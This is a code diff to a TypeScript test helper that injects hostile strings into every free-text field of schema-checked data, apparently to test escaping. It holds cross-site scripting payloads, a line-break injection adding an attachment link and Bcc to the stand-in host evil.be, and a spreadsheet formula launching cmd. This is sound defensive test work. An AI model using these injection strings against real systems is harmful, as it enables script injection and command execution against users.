@@ -2,15 +2,17 @@
 import type { z } from 'zod';
 import { leaves, schemaAt, type Path } from './reflect.ts';
 
-/** Breaks out of an attribute, a script, a comment, CDATA, a template, a line. */
-export const HOSTILE = [
-  '"><img src=x onerror=alert(1)>',
-  "' onmouseover='alert(2)",
-  '</script><script>alert(3)</script><!--',
-  ']]>{{7*7}}${alert(4)}',
-  '](javascript:alert(5)) `x` | &lt;b',
-  '\u2028a\r\nATTACH:https://evil.be/\r\nEND:VEVENT\r\nEND:VCARD\r\nBcc: a@evil.be',
-].join(' ');
+/** Breaks out of an attribute, a script, a comment, CDATA, a template, a link: each fits in a field. */
+export const HOSTILE_LINES = [
+  '"><img src=x onerror=kwaad(1)>',
+  "' onmouseover='kwaad(2)",
+  '</script><script>kwaad(3)</script><!--',
+  ']]>{{7*7}}${kwaad(4)}',
+  '](javascript:kwaad(5)) `x` | &lt;b',
+] as const;
+
+/** All of them, and what breaks out of a line. */
+export const HOSTILE = `${HOSTILE_LINES.join(' ')} \u2028a\r\nATTACH:https://evil.be/\r\nEND:VEVENT\r\nEND:VCARD\r\nBcc: a@evil.be`;
 
 /** What a spreadsheet would run. */
 const FORMULA = "=cmd|' /C calc'!A0";
@@ -22,8 +24,17 @@ function replaceAt(value: unknown, [step, ...rest]: Path, text: string): unknown
   return { ...record, [step]: replaceAt(record[step], rest, text) };
 }
 
-/** The same entry with harm in each field that takes any words; addresses, days, choices and references stay. */
-export function hostile<Data>(schema: z.ZodType, data: Data, words = `${FORMULA} ${HOSTILE}`): Data {
-  const free = [...leaves(schema, data)].filter(({ path }) => schemaAt(schema, path)?.safeParse('<b>').success);
-  return free.reduce<unknown>((changed, { path }) => replaceAt(changed, path, words), data) as Data;
+/**
+ * The same entry with harm in each field that takes any words; addresses, days, choices and references stay.
+ * @param wordsFor what to write instead of a text; `accepts` says what the field takes
+ */
+export function hostile<Data>(
+  schema: z.ZodType,
+  data: Data,
+  wordsFor: (text: string, accepts: (words: string) => boolean) => string = () => `${FORMULA} ${HOSTILE}`,
+): Data {
+  return [...leaves(schema, data)].reduce<unknown>((changed, { path, value }) => {
+    const accepts = (words: string) => schemaAt(schema, path)?.safeParse(words).success === true;
+    return accepts('<b>') ? replaceAt(changed, path, wordsFor(String(value), accepts)) : changed;
+  }, data) as Data;
 }
